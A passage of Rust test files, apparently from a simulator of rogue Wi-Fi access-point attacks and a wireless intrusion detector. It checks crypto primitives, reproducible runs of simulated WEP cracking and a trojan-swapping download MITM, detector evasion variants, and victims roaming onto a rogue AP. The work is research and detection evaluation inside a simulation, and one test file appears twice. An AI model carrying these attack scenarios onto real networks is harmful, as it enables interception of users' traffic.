    } else {
        k[..key.len()].copy_from_slice(key);
    }
    let mut inner = Sha1::new();
    for &b in &k {
        inner.update(&[b ^ 0x36]);
    }
    for &b in msg {
        inner.update(&[b]);
    }
    let inner_digest = inner.finalize();
    let mut outer = Sha1::new();
    for &b in &k {
        outer.update(&[b ^ 0x5C]);
    }
    for &b in &inner_digest {
        outer.update(&[b]);
    }
    outer.finalize()
}

proptest! {
    /// Block-batched ChaCha20 == byte-at-a-time reference for arbitrary
    /// data, counters, and two-way splits, including the resumed state.
    #[test]
    fn chacha20_batched_matches_bytewise(
        key in any::<[u8; 32]>(),
        nonce in any::<[u8; 12]>(),
        counter in any::<u32>(),
        data in proptest::collection::vec(any::<u8>(), 0..512),
        cut in any::<u16>(),
    ) {
        let cut = (cut as usize) % (data.len() + 1);
        let mut fast = data.clone();
        let mut slow = data.clone();
        let mut cf = ChaCha20::new(&key, &nonce, counter);
        let mut cs = ChaCha20::new(&key, &nonce, counter);
        let (fa, fb) = fast.split_at_mut(cut);
        cf.apply_keystream(fa);
        cf.apply_keystream(fb);
        let (sa, sb) = slow.split_at_mut(cut);
        cs.apply_keystream_bytewise(sa);
        cs.apply_keystream_bytewise(sb);
        prop_assert_eq!(&fast, &slow);
        // The partial-block resume buffer must agree too.
        let mut tf = [0u8; 3];
        let mut ts = [0u8; 3];
        cf.apply_keystream(&mut tf);
        cs.apply_keystream_bytewise(&mut ts);
        prop_assert_eq!(tf, ts);
    }

    /// Multi-block SHA-1 absorption == one byte per update, at any split.
    #[test]
    fn sha1_batched_matches_bytewise(
        data in proptest::collection::vec(any::<u8>(), 0..4096),
        cut in any::<u16>(),
    ) {
        let cut = (cut as usize) % (data.len() + 1);
        let mut fast = Sha1::new();
        fast.update(&data[..cut]);
        fast.update(&data[cut..]);
        let mut slow = Sha1::new();
        for &b in &data {
            slow.update(&[b]);
        }
        prop_assert_eq!(fast.finalize(), slow.finalize());
    }

    /// Midstate HMAC (and the streaming context) == the hand-built
    /// RFC 2104 reference, across key-size classes and message splits.
    #[test]
    fn hmac_midstate_matches_reference(
        key in proptest::collection::vec(any::<u8>(), 0..100),
        msg in proptest::collection::vec(any::<u8>(), 0..512),
        cut in any::<u16>(),
    ) {
        let expect = hmac_sha1_reference(&key, &msg);
        prop_assert_eq!(hmac_sha1(&key, &msg), expect);
        let pre = HmacSha1::new(&key);
        prop_assert_eq!(pre.mac(&msg), expect);
        let cut = (cut as usize) % (msg.len() + 1);
        let mut ctx = pre.begin();
        ctx.update(&msg[..cut]);
        ctx.update(&msg[cut..]);
        prop_assert_eq!(ctx.finalize(), expect);
    }

    /// Register-local RC4 keystream application == repeated `next_byte`,
    /// and `skip` == discarding that many output bytes.
    #[test]
    fn rc4_inplace_matches_next_byte(
        key in proptest::collection::vec(any::<u8>(), 1..64),
        data in proptest::collection::vec(any::<u8>(), 0..512),
        skip in 0usize..300,
    ) {
        let mut fast = Rc4::new(&key);
        let mut slow = Rc4::new(&key);
        fast.skip(skip);
        for _ in 0..skip {
            slow.next_byte();
        }
        let mut batched = data.clone();
        fast.apply_keystream(&mut batched);
        let bytewise: Vec<u8> = data.iter().map(|b| b ^ slow.next_byte()).collect();
        prop_assert_eq!(batched, bytewise);
    }
}
