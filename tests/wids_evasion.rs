//! The evasion acceptance suite: every `scenarios/evasion/*.toml` runs
//! the WIDS against one adversarial variant, and every rendered row must
//! clear its pinned precision/recall floor (the `pass` column). The
//! single-variant files are also held byte-identical to the matching row
//! of the hand-coded `report_e10_evasion` table — per-variant scoring is
//! independent (each variant forks the same per-replication seeds), so
//! splitting the suite across files must not move any number.

use rogue_scenario::{load_source, run_scenario, ReportKind};

const VARIANT_FILES: [(&str, &str); 4] = [
    ("evasion/mac_randomizing.toml", "mac-randomizing"),
    ("evasion/karma_cloaked.toml", "karma-cloaked"),
    ("evasion/low_power_stealth.toml", "low-power-stealth"),
    ("evasion/pulsed_deauth.toml", "pulsed-deauth"),
];

fn scenario_path(file: &str) -> String {
    format!("{}/../../scenarios/{file}", env!("CARGO_MANIFEST_DIR"))
}

fn run_file(file: &str) -> (rogue_scenario::Scenario, String) {
    let src = std::fs::read_to_string(scenario_path(file)).expect("scenario file");
    let sc = load_source(&src, &[]).expect("valid scenario");
    let report = run_scenario(&sc).expect("run");
    (sc, report)
}

/// The table row whose first cell is `variant`, from a Markdown table.
fn row_for<'a>(table: &'a str, variant: &str) -> &'a str {
    table
        .lines()
        .find(|l| l.starts_with(&format!("| {variant} |")))
        .unwrap_or_else(|| panic!("no row for {variant} in:\n{table}"))
}

#[test]
fn every_evasion_scenario_clears_its_floor() {
    for (file, variant) in VARIANT_FILES {
        let (sc, body) = run_file(file);
        assert_eq!(sc.report.kind, ReportKind::E10Evasion, "{file}");
        assert_eq!(sc.seed.0, 0x2003_1CC9, "{file} must pin the report seed");
        let row = row_for(&body, variant);
        assert!(
            row.ends_with("| yes |"),
            "{file}: {variant} fell under its precision/recall floor:\n{row}"
        );
    }
}

#[test]
fn evasion_scenarios_match_the_hand_coded_rows() {
    let hand_coded = rogue_bench::report_e10_evasion(2).body;
    for (file, variant) in VARIANT_FILES {
        let (_, body) = run_file(file);
        assert_eq!(
            row_for(&body, variant),
            row_for(&hand_coded, variant),
            "{file} drifted from the report_e10_evasion row"
        );
    }
}
