//! Reproducibility: every run is a pure function of its seed.
//!
//! EXPERIMENTS.md records concrete numbers; these tests guarantee that
//! re-running the harness regenerates them bit for bit.

use rogue_core::experiments::e10_wids::{run_wids_once, wids_table, WidsScenario};
use rogue_core::experiments::e2_download::{run_download_mitm, DownloadMitmConfig};
use rogue_core::experiments::e4_wep::crack_curve;
use rogue_core::scenario::{build_corp, CorpScenarioCfg};
use rogue_dot11::output::MacEvent;
use rogue_sim::{Seed, SimTime};

#[test]
fn same_seed_same_world_trace() {
    let run = |seed: Seed| {
        let cfg = CorpScenarioCfg::paper_attack();
        let mut sc = build_corp(&cfg, seed);
        sc.world.run_until(SimTime::from_secs(5));
        // A trace fingerprint: (time, event discriminant) for every MAC
        // milestone, plus medium statistics.
        let events: Vec<(u64, String)> = sc
            .world
            .mac_events
            .iter()
            .map(|(t, n, e)| (t.as_nanos() ^ n.0 as u64, format!("{e:?}")))
            .collect();
        (
            events,
            sc.world.medium.frames_sent,
            sc.world.medium.halfduplex_misses,
            sc.world.medium.sinr_drops,
        )
    };
    let a = run(Seed(77));
    let b = run(Seed(77));
    assert_eq!(a.0, b.0, "identical seeds must give identical event traces");
    assert_eq!(a.1, b.1);
    assert_eq!(a.2, b.2);
    assert_eq!(a.3, b.3);
}

#[test]
fn sharded_event_loop_is_bit_identical_to_serial() {
    // PR 8's contract: sharding is a *scheduling* change, never a
    // *semantic* one. The plan/commit split replays commits in global
    // (time, seq) order, so any shard count — and any window width —
    // must reproduce the serial trace down to the last nanosecond.
    let run = |shards: usize, window_us: u64| {
        let cfg = CorpScenarioCfg::paper_attack();
        let mut sc = build_corp(&cfg, Seed(0x5A4D));
        if shards > 1 {
            sc.world.set_shards(shards);
            sc.world
                .set_shard_window(rogue_sim::SimDuration::from_micros(window_us));
        }
        sc.world.run_until(SimTime::from_secs(5));
        let events: Vec<(u64, String)> = sc
            .world
            .mac_events
            .iter()
            .map(|(t, n, e)| (t.as_nanos() ^ n.0 as u64, format!("{e:?}")))
            .collect();
        (
            events,
            sc.world.medium.frames_sent,
            sc.world.medium.halfduplex_misses,
            sc.world.medium.sinr_drops,
        )
    };
    let serial = run(1, 0);
    for (shards, window_us) in [(2, 1_000), (4, 250), (8, 5_000)] {
        let sharded = run(shards, window_us);
        assert_eq!(
            serial.0, sharded.0,
            "shards={shards} window={window_us}us: event trace diverged"
        );
        assert_eq!(serial.1, sharded.1, "frames_sent diverged");
        assert_eq!(serial.2, sharded.2, "halfduplex_misses diverged");
        assert_eq!(serial.3, sharded.3, "sinr_drops diverged");
    }
}

#[test]
fn different_seeds_diverge() {
    let fingerprint = |seed: Seed| {
        let cfg = CorpScenarioCfg::paper_attack();
        let mut sc = build_corp(&cfg, seed);
        sc.world.run_until(SimTime::from_secs(3));
        sc.world
            .mac_events
            .iter()
            .map(|(t, _, _)| t.as_nanos())
            .sum::<u64>()
            ^ sc.world.medium.frames_sent
    };
    // Backoff randomization alone must perturb timings.
    assert_ne!(fingerprint(Seed(1)), fingerprint(Seed(2)));
}

#[test]
fn experiment_results_are_reproducible() {
    let cfg = DownloadMitmConfig::paper();
    let a = run_download_mitm(&cfg, Seed(12345));
    let b = run_download_mitm(&cfg, Seed(12345));
    assert_eq!(a.victim_got_trojan, b.victim_got_trojan);
    assert_eq!(a.md5_check_passed, b.md5_check_passed);
    assert_eq!(a.netsed_replacements, b.netsed_replacements);
    assert_eq!(a.download_secs, b.download_secs, "bit-identical timing");
    assert_eq!(a.link_seen, b.link_seen);
}

#[test]
fn wids_incidents_are_reproducible() {
    // The full pipeline — multi-sensor batching, correlation, scoring —
    // must be a pure function of the master seed.
    for scenario in [WidsScenario::RogueApDeauth, WidsScenario::ArpSpoof] {
        let a = run_wids_once(scenario, Seed(0xE10));
        let b = run_wids_once(scenario, Seed(0xE10));
        assert_eq!(
            a.incident_log, b.incident_log,
            "{scenario:?}: identical seeds must open identical incidents"
        );
        assert_eq!(a.events, b.events);
        assert_eq!(a.eval.true_positives, b.eval.true_positives);
        assert_eq!(a.eval.false_positives, b.eval.false_positives);
        assert_eq!(a.eval.false_negatives, b.eval.false_negatives);
        assert_eq!(a.eval.latencies_secs, b.eval.latencies_secs);
    }
}

#[test]
fn parallel_replication_is_bit_identical_to_serial() {
    // The drivers were written for this: every replication forks its own
    // seed and all merges run over index-ordered buffers, so the thread
    // count must be unobservable in the results — down to the f64 bits.
    let serial = rayon::with_num_threads(1, || crack_curve(5, &[5, 40], 4, Seed(0xD47)));
    for threads in [2, 4, 8] {
        let parallel =
            rayon::with_num_threads(threads, || crack_curve(5, &[5, 40], 4, Seed(0xD47)));
        assert_eq!(serial.len(), parallel.len());
        for (s, p) in serial.iter().zip(&parallel) {
            assert_eq!(s.weak_ivs_per_position, p.weak_ivs_per_position);
            assert_eq!(s.equivalent_frames, p.equivalent_frames);
            assert_eq!(
                s.success_rate.to_bits(),
                p.success_rate.to_bits(),
                "threads={threads}: success rate diverged at w={}",
                s.weak_ivs_per_position
            );
        }
    }
}

#[test]
fn wids_table_is_bit_identical_across_thread_counts() {
    // E10 exercises the deepest pipeline (sensors → ring → detectors →
    // correlator); its table under forced parallelism must match serial.
    let render = |rows: Vec<rogue_core::experiments::e10_wids::WidsRow>| {
        rows.iter()
            .map(|r| {
                format!(
                    "{}|{}|{}|{}|{}|{:?}|{}",
                    r.scenario,
                    r.reps,
                    r.eval.true_positives,
                    r.eval.false_positives,
                    r.eval.false_negatives,
                    r.eval.latencies_secs,
                    r.ring_dropped
                )
            })
            .collect::<Vec<_>>()
            .join("\n")
    };
    let serial = render(rayon::with_num_threads(1, || wids_table(3, Seed(0xE10))));
    for threads in [2, 4] {
        let parallel = render(rayon::with_num_threads(threads, || {
            wids_table(3, Seed(0xE10))
        }));
        assert_eq!(serial, parallel, "threads={threads}");
    }
}

#[test]
fn association_events_are_ordered() {
    let cfg = CorpScenarioCfg::paper_attack();
    let mut sc = build_corp(&cfg, Seed(9));
    sc.world.run_until(SimTime::from_secs(5));
    // Events must come out in nondecreasing time order.
    let times: Vec<u64> = sc
        .world
        .mac_events
        .iter()
        .map(|(t, _, _)| t.as_nanos())
        .collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]));
    // And the victim must associate before any client shows up on the
    // rogue AP (causality).
    let victim_assoc = sc
        .world
        .mac_events
        .iter()
        .position(|(_, n, e)| *n == sc.victim && matches!(e, MacEvent::Associated { .. }));
    assert!(victim_assoc.is_some());
}
