//! §3.2 "network promiscuity": mobility hands the client to whatever
//! network is strongest wherever it happens to be.
//!
//! "Mobility implies that a computer will move between administrative
//! domains. … Since a computer will cross domains there may now be
//! incentive for a domain administrator to interfere with a client
//! computer's operation."
//!
//! A victim laptop walks from the corporate AP's coverage toward the
//! attacker's parking-lot rogue; when the valid AP fades, beacon loss
//! triggers a rescan and the (now dominant) rogue wins — no deauth,
//! no cracking of anything beyond the shared WEP key, just movement.

use rogue_core::scenario::{build_corp, victim_mac, CorpScenarioCfg, RogueCfg};
use rogue_dot11::sta::StaState;
use rogue_phy::Pos;
use rogue_sim::{Seed, SimDuration, SimTime};

#[test]
fn walking_out_of_coverage_hands_victim_to_the_rogue() {
    let mut cfg = CorpScenarioCfg::paper_attack();
    // Victim starts right next to the valid AP; the rogue sits 120 m
    // away (outside the office), no deauth.
    cfg.victim_pos = Pos::new(2.0, 0.0);
    cfg.rogue = Some(RogueCfg {
        pos: Pos::new(120.0, 0.0),
        deauth_victim: false,
        ..RogueCfg::default()
    });
    let mut sc = build_corp(&cfg, Seed(3232));

    // Settle: the victim must join the valid AP first (it is ~60 dB
    // stronger at this position).
    sc.world.run_until(SimTime::from_secs(2));
    assert_eq!(
        sc.world.sta_state(sc.victim, sc.victim_radio),
        StaState::Associated
    );
    let gw = sc.gateway.as_ref().map(|g| (g.node, g.rogue_ap_radio));
    let (gw_node, rogue_radio) = gw.expect("rogue deployed");
    assert!(
        !sc.world
            .ap(gw_node, rogue_radio)
            .is_associated(victim_mac()),
        "starts on the valid AP"
    );

    // Walk: 2 m per 100 ms toward the parking lot.
    let radio = sc.world.radio_id(sc.victim, sc.victim_radio);
    let mut x = 2.0;
    let mut now = SimTime::from_secs(2);
    while x < 150.0 {
        x += 2.0;
        sc.world.medium.set_pos(radio, Pos::new(x, 0.0));
        now += SimDuration::from_millis(100);
        sc.world.run_until(now);
    }
    // Dwell at the far end long enough for beacon loss + rescan.
    sc.world.run_until(now + SimDuration::from_secs(5));

    assert!(
        sc.world
            .ap(gw_node, rogue_radio)
            .is_associated(victim_mac()),
        "movement alone must hand the victim to the rogue"
    );
    // And it was a natural (beacon-loss) transition, not a forced one.
    let forced = sc
        .world
        .mac_events
        .iter()
        .filter(|(_, n, e)| {
            *n == sc.victim
                && matches!(
                    e,
                    rogue_dot11::output::MacEvent::Disassociated { forced: true, .. }
                )
        })
        .count();
    assert_eq!(forced, 0, "no deauth was involved");
}

#[test]
fn returning_home_reverses_the_handover() {
    // The §1.2.1 worry completed: "A client compromised elsewhere could
    // then return to the secured institutional wireless network" — here
    // we only verify the radio-level round trip.
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.victim_pos = Pos::new(150.0, 0.0); // starts out by the rogue
    cfg.rogue = Some(RogueCfg {
        pos: Pos::new(200.0, 0.0), // parking lot, well clear of the office
        deauth_victim: false,
        ..RogueCfg::default()
    });
    let mut sc = build_corp(&cfg, Seed(3333));
    sc.world.run_until(SimTime::from_secs(2));
    let gw = sc.gateway.as_ref().map(|g| (g.node, g.rogue_ap_radio));
    let (gw_node, rogue_radio) = gw.expect("rogue deployed");
    assert!(
        sc.world
            .ap(gw_node, rogue_radio)
            .is_associated(victim_mac()),
        "starts on the rogue (valid AP out of range)"
    );

    // Walk back into the office (the rogue fades behind us).
    let radio = sc.world.radio_id(sc.victim, sc.victim_radio);
    let mut x = 150.0;
    let mut now = SimTime::from_secs(2);
    while x > 2.0 {
        x -= 2.0;
        sc.world.medium.set_pos(radio, Pos::new(x, 0.0));
        now += SimDuration::from_millis(100);
        sc.world.run_until(now);
    }
    sc.world.run_until(now + SimDuration::from_secs(5));
    assert_eq!(
        sc.world.sta_state(sc.victim, sc.victim_radio),
        StaState::Associated
    );
    // The corporate AP's table regains the victim. (The rogue may keep a
    // stale entry — stations do not always send Disassoc when roaming,
    // and our AP, like many real ones, ages entries lazily.)
    assert!(
        sc.world
            .ap(sc.valid_ap, sc.valid_ap_radio)
            .is_associated(victim_mac()),
        "back on the corporate AP"
    );
    let _ = (gw_node, rogue_radio);
}
