//! §3.2 "network promiscuity": mobility hands the client to whatever
//! network is strongest wherever it happens to be.
//!
//! "Mobility implies that a computer will move between administrative
//! domains. … Since a computer will cross domains there may now be
//! incentive for a domain administrator to interfere with a client
//! computer's operation."
//!
//! A victim laptop walks from the corporate AP's coverage toward the
//! attacker's parking-lot rogue; when the valid AP fades, beacon loss
//! triggers a rescan and the (now dominant) rogue wins — no deauth,
//! no cracking of anything beyond the shared WEP key, just movement.

use rogue_core::scenario::{build_corp, victim_mac, CorpScenarioCfg, RogueCfg};
use rogue_dot11::sta::StaState;
use rogue_phy::Pos;
use rogue_sim::{Seed, SimDuration, SimTime};

#[test]
fn walking_out_of_coverage_hands_victim_to_the_rogue() {
    let mut cfg = CorpScenarioCfg::paper_attack();
    // Victim starts right next to the valid AP; the rogue sits 120 m
    // away (outside the office), no deauth.
    cfg.victim_pos = Pos::new(2.0, 0.0);
    cfg.rogue = Some(RogueCfg {
        pos: Pos::new(120.0, 0.0),
        deauth_victim: false,
        ..RogueCfg::default()
    });
    let mut sc = build_corp(&cfg, Seed(3232));

    // Settle: the victim must join the valid AP first (it is ~60 dB
    // stronger at this position).
    sc.world.run_until(SimTime::from_secs(2));
    assert_eq!(
        sc.world.sta_state(sc.victim, sc.victim_radio),
        StaState::Associated
    );
    let gw = sc.gateway.as_ref().map(|g| (g.node, g.rogue_ap_radio));
    let (gw_node, rogue_radio) = gw.expect("rogue deployed");
    assert!(
        !sc.world
            .ap(gw_node, rogue_radio)
            .is_associated(victim_mac()),
        "starts on the valid AP"
    );

    // Walk: 2 m per 100 ms toward the parking lot.
    let radio = sc.world.radio_id(sc.victim, sc.victim_radio);
    let mut x = 2.0;
    let mut now = SimTime::from_secs(2);
    while x < 150.0 {
        x += 2.0;
        sc.world.medium.set_pos(radio, Pos::new(x, 0.0));
        now += SimDuration::from_millis(100);
        sc.world.run_until(now);
    }
    // Dwell at the far end long enough for beacon loss + rescan.
    sc.world.run_until(now + SimDuration::from_secs(5));

    assert!(
        sc.world
            .ap(gw_node, rogue_radio)
            .is_associated(victim_mac()),
        "movement alone must hand the victim to the rogue"
    );
    // And it was a natural (beacon-loss) transition, not a forced one.
    let forced = sc
        .world
        .mac_events
        .iter()
        .filter(|(_, n, e)| {
            *n == sc.victim
                && matches!(
                    e,
                    rogue_dot11::output::MacEvent::Disassociated { forced: true, .. }
                )
        })
        .count();
    assert_eq!(forced, 0, "no deauth was involved");
}

#[test]
fn returning_home_reverses_the_handover() {
    // The §1.2.1 worry completed: "A client compromised elsewhere could
    // then return to the secured institutional wireless network" — here
    // we only verify the radio-level round trip.
    let mut cfg = CorpScenarioCfg::paper_attack();
    cfg.victim_pos = Pos::new(150.0, 0.0); // starts out by the rogue
    cfg.rogue = Some(RogueCfg {
        pos: Pos::new(200.0, 0.0), // parking lot, well clear of the office
        deauth_victim: false,
        ..RogueCfg::default()
    });
    let mut sc = build_corp(&cfg, Seed(3333));
    sc.world.run_until(SimTime::from_secs(2));
    let gw = sc.gateway.as_ref().map(|g| (g.node, g.rogue_ap_radio));
    let (gw_node, rogue_radio) = gw.expect("rogue deployed");
    assert!(
        sc.world
            .ap(gw_node, rogue_radio)
            .is_associated(victim_mac()),
        "starts on the rogue (valid AP out of range)"
    );

    // Walk back into the office (the rogue fades behind us).
    let radio = sc.world.radio_id(sc.victim, sc.victim_radio);
    let mut x = 150.0;
    let mut now = SimTime::from_secs(2);
    while x > 2.0 {
        x -= 2.0;
        sc.world.medium.set_pos(radio, Pos::new(x, 0.0));
        now += SimDuration::from_millis(100);
        sc.world.run_until(now);
    }
    sc.world.run_until(now + SimDuration::from_secs(5));
    assert_eq!(
        sc.world.sta_state(sc.victim, sc.victim_radio),
        StaState::Associated
    );
    // The corporate AP's table regains the victim. (The rogue may keep a
    // stale entry — stations do not always send Disassoc when roaming,
    // and our AP, like many real ones, ages entries lazily.)
    assert!(
        sc.world
            .ap(sc.valid_ap, sc.valid_ap_radio)
            .is_associated(victim_mac()),
        "back on the corporate AP"
    );
    let _ = (gw_node, rogue_radio);
}

// ---------------------------------------------------------------------
// Scenario-driven mobility: the same physics, reached through the
// declarative layer. The compiler turns `[population.mobility]` into
// walkers stepped on the scenario tick; every applied move must go
// through `Medium::set_pos` and therefore bump the moved radio's
// position epoch (invalidating its path-loss cache rows). The epoch
// bookkeeping is what keeps a 500-client waypoint scenario honest — a
// stale cache would silently freeze the radio environment.

const WAYPOINT_SRC: &str = r#"
name = "mobility-ticks"
seed = 11
duration = "4s"
tick = "100ms"

[[ap]]
ssid = "NET"
bssid = "aa:bb:cc:dd:00:01"
channel = 1
pos = [25.0, 10.0]

[[server]]
name = "www"
ip = "10.0.0.10"
content = "news"

[[population]]
name = "roam"
count = 8
ssid = "NET"
area = [0.0, 0.0, 50.0, 20.0]

[population.mobility]
model = "waypoint"
speed_mps = [1.0, 3.0]
pause = "300ms"
"#;

#[test]
fn scenario_tick_mobility_bumps_pathloss_epochs_per_move() {
    let sc = rogue_scenario::parse_scenario(WAYPOINT_SRC).unwrap();
    let run = rogue_scenario::run_summary(&sc).unwrap();
    let c = &run.compiled;

    assert_eq!(run.stats.walkers, 8);
    assert!(
        run.stats.moves > 8 * 10,
        "4 s of 100 ms ticks must move every walker many times: {}",
        run.stats.moves
    );

    // Each applied move bumps exactly one radio's epoch by one, so the
    // epochs across the population must sum to the moves applied.
    let epoch_sum: u64 = c
        .clients
        .iter()
        .map(|cl| {
            let radio = c.world.radio_id(cl.node, cl.radio);
            c.world.medium.pos_epoch(radio)
        })
        .sum();
    assert_eq!(
        epoch_sum, run.stats.moves,
        "every waypoint move must invalidate the mover's path-loss cache"
    );

    // And every walker actually moved (no one-walker-does-everything
    // degenerate case).
    for cl in &c.clients {
        let radio = c.world.radio_id(cl.node, cl.radio);
        assert!(
            c.world.medium.pos_epoch(radio) > 0,
            "{} never moved",
            cl.spec.name
        );
    }
}

#[test]
fn static_scenario_population_never_bumps_epochs() {
    let src = WAYPOINT_SRC.replace(
        "[population.mobility]\nmodel = \"waypoint\"\nspeed_mps = [1.0, 3.0]\npause = \"300ms\"",
        "[population.mobility]\nmodel = \"static\"",
    );
    let sc = rogue_scenario::parse_scenario(&src).unwrap();
    let run = rogue_scenario::run_summary(&sc).unwrap();
    assert_eq!(
        run.stats.walkers, 0,
        "static populations register no walkers"
    );
    assert_eq!(run.stats.moves, 0);
    for cl in &run.compiled.clients {
        let radio = run.compiled.world.radio_id(cl.node, cl.radio);
        assert_eq!(run.compiled.world.medium.pos_epoch(radio), 0);
    }
}
