//! The tentpole equivalence claim: the checked-in `.toml` re-expressions
//! of E1 and E10 produce *byte-identical* report tables to the
//! hand-coded drivers the `rogue-bench` harness runs. Both paths funnel
//! into the same `report_body` formatter in `rogue-core`, so this holds
//! exactly — any drift in the scenario front end (a default that no
//! longer matches the paper value, a seed plumbed differently) breaks
//! these assertions.

use rogue_scenario::{load_source, run_scenario, ReportKind};

fn scenario_path(file: &str) -> String {
    format!("{}/../../scenarios/{file}", env!("CARGO_MANIFEST_DIR"))
}

fn run_file(file: &str, overrides: &[String]) -> (rogue_scenario::Scenario, String) {
    let src = std::fs::read_to_string(scenario_path(file)).expect("scenario file");
    let sc = load_source(&src, overrides).expect("valid scenario");
    let report = run_scenario(&sc).expect("run");
    (sc, report)
}

#[test]
fn e1_toml_matches_the_hand_coded_report() {
    let (sc, body) = run_file("e1_association.toml", &[]);
    assert_eq!(sc.report.kind, ReportKind::E1);
    assert_eq!(sc.seed.0, 0x2003_1CC9, "file must pin the report seed");
    let hand_coded = rogue_bench::report_e1(sc.report.reps).body;
    assert_eq!(body, hand_coded, "E1 .toml must be byte-identical");
}

#[test]
fn e10_toml_matches_the_hand_coded_report() {
    let (sc, body) = run_file("e10_wids.toml", &[]);
    assert_eq!(sc.report.kind, ReportKind::E10);
    assert_eq!(sc.seed.0, 0x2003_1CC9);
    let hand_coded = rogue_bench::report_e10(sc.report.reps).body;
    assert_eq!(body, hand_coded, "E10 .toml must be byte-identical");
}

#[test]
fn overrides_change_the_tables_they_claim_to_change() {
    // Sanity that the equivalence above is not vacuous: nudging a
    // parameter through --override must produce a different table.
    let (_, base) = run_file("e1_association.toml", &[]);
    let (_, nudged) = run_file("e1_association.toml", &["e1.powers_dbm=[18.0]".to_string()]);
    assert_ne!(base, nudged);
    assert!(nudged.lines().count() < base.lines().count());
}
