//! Property-based tests over the substrate invariants, spanning crates.
//!
//! The codecs and state machines here are what every experiment's
//! numbers rest on; proptest hammers them with adversarial inputs.

use bytes::Bytes;
use proptest::prelude::*;
use rogue_crypto::wep::{open, seal, WepKey};
use rogue_crypto::{md5, Rc4};
use rogue_dot11::frame::{decode_llc, encode_llc, Frame, FrameBody};
use rogue_dot11::MacAddr;
use rogue_netstack::ip::Ipv4Packet;
use rogue_netstack::tcp::{flags, TcpSegment};
use rogue_netstack::udp::UdpDatagram;
use rogue_services::netsed::{apply_rules, NetsedRule};
use std::net::Ipv4Addr;

proptest! {
    /// RC4 is an involution under the same key.
    #[test]
    fn rc4_roundtrip(key in proptest::collection::vec(any::<u8>(), 1..64),
                     data in proptest::collection::vec(any::<u8>(), 0..2048)) {
        let enc = Rc4::process(&key, &data);
        let dec = Rc4::process(&key, &enc);
        prop_assert_eq!(dec, data);
    }

    /// WEP seal/open round-trips for both key sizes and all IVs.
    #[test]
    fn wep_roundtrip(secret in proptest::collection::vec(any::<u8>(), 5..=5),
                     iv in any::<[u8; 3]>(),
                     payload in proptest::collection::vec(any::<u8>(), 0..1600)) {
        let key = WepKey::new(&secret);
        let body = seal(&key, iv, 0, &payload);
        prop_assert_eq!(open(&key, &body).unwrap(), payload);
    }

    /// Any single-bit corruption of a WEP body is caught by the ICV
    /// (absent a deliberate CRC patch).
    #[test]
    fn wep_corruption_detected(payload in proptest::collection::vec(any::<u8>(), 1..256),
                               bit in 0usize..64) {
        let key = WepKey::new(b"AB#12");
        let mut body = seal(&key, [9, 9, 9], 0, &payload);
        let nbits = body.len() * 8;
        let target = 32 + bit % (nbits - 32); // skip the cleartext IV/keyid
        body[target / 8] ^= 1 << (target % 8);
        prop_assert!(open(&key, &body).is_err());
    }

    /// MD5 streaming == one-shot for arbitrary chunkings.
    #[test]
    fn md5_chunking(data in proptest::collection::vec(any::<u8>(), 0..4096),
                    cut in any::<u16>()) {
        let mut h = rogue_crypto::md5::Md5::new();
        let cut = (cut as usize) % (data.len() + 1);
        h.update(&data[..cut]);
        h.update(&data[cut..]);
        prop_assert_eq!(h.finalize(), md5(&data));
    }

    /// 802.11 frames round-trip through the wire codec.
    #[test]
    fn dot11_data_frame_roundtrip(a1 in any::<[u8; 6]>(), a2 in any::<[u8; 6]>(),
                                  a3 in any::<[u8; 6]>(), seq in 0u16..4096,
                                  to_ds in any::<bool>(), protected in any::<bool>(),
                                  payload in proptest::collection::vec(any::<u8>(), 0..512)) {
        let mut f = Frame::new(MacAddr(a1), MacAddr(a2), MacAddr(a3), FrameBody::Data {
            payload: Bytes::from(payload),
        });
        f.seq = seq;
        f.to_ds = to_ds;
        f.protected = protected;
        let g = Frame::decode(&f.encode()).unwrap();
        prop_assert_eq!(f, g);
    }

    /// Corrupt 802.11 frames never decode (FCS).
    #[test]
    fn dot11_corruption_rejected(payload in proptest::collection::vec(any::<u8>(), 0..128),
                                 byte in any::<u16>(), flip in 1u8..=255) {
        let f = Frame::new(MacAddr::local(1), MacAddr::local(2), MacAddr::local(3),
                           FrameBody::Data { payload: Bytes::from(payload) });
        let mut bytes = f.encode().to_vec();
        let idx = byte as usize % bytes.len();
        bytes[idx] ^= flip;
        prop_assert!(Frame::decode(&bytes.into()).is_err());
    }

    /// LLC/SNAP encapsulation round-trips.
    #[test]
    fn llc_roundtrip(ethertype in any::<u16>(),
                     payload in proptest::collection::vec(any::<u8>(), 0..512)) {
        let framed = encode_llc(ethertype, &payload);
        let (et, inner) = decode_llc(&framed).unwrap();
        prop_assert_eq!(et, ethertype);
        prop_assert_eq!(inner, &payload[..]);
    }

    /// IPv4 packets round-trip and corruption is caught by the header
    /// checksum (when it lands in the header).
    #[test]
    fn ipv4_roundtrip(src in any::<u32>(), dst in any::<u32>(), proto in any::<u8>(),
                      payload in proptest::collection::vec(any::<u8>(), 0..1024)) {
        let p = Ipv4Packet::new(Ipv4Addr::from(src), Ipv4Addr::from(dst), proto,
                                Bytes::from(payload));
        let q = Ipv4Packet::decode(&p.encode()).unwrap();
        prop_assert_eq!(p, q);
    }

    /// TCP segments round-trip with valid checksums.
    #[test]
    fn tcp_segment_roundtrip(sp in any::<u16>(), dp in any::<u16>(), seq in any::<u32>(),
                             ack in any::<u32>(), win in any::<u16>(),
                             payload in proptest::collection::vec(any::<u8>(), 0..1400)) {
        let src = Ipv4Addr::new(10, 0, 0, 1);
        let dst = Ipv4Addr::new(10, 0, 0, 2);
        let s = TcpSegment {
            src_port: sp, dst_port: dp, seq, ack,
            flags: flags::ACK | flags::PSH, window: win,
            payload: Bytes::from(payload),
        };
        prop_assert_eq!(TcpSegment::decode(src, dst, &s.encode(src, dst)).unwrap(), s);
    }

    /// UDP datagrams round-trip with valid checksums.
    #[test]
    fn udp_roundtrip(sp in any::<u16>(), dp in any::<u16>(),
                     payload in proptest::collection::vec(any::<u8>(), 0..1400)) {
        let src = Ipv4Addr::new(172, 16, 0, 1);
        let dst = Ipv4Addr::new(172, 16, 0, 2);
        let d = UdpDatagram::new(sp, dp, Bytes::from(payload));
        prop_assert_eq!(UdpDatagram::decode(src, dst, &d.encode(src, dst)).unwrap(), d);
    }

    /// netsed rewriting is exact: applying a rule whose search string is
    /// absent never changes the data, and replacing then reversing is
    /// the identity when search/replace are unique non-overlapping.
    #[test]
    fn netsed_no_match_is_identity(data in proptest::collection::vec(any::<u8>(), 0..512)) {
        // A 17-byte needle that cannot occur in arbitrary short data by
        // construction: we delete any accidental hits first.
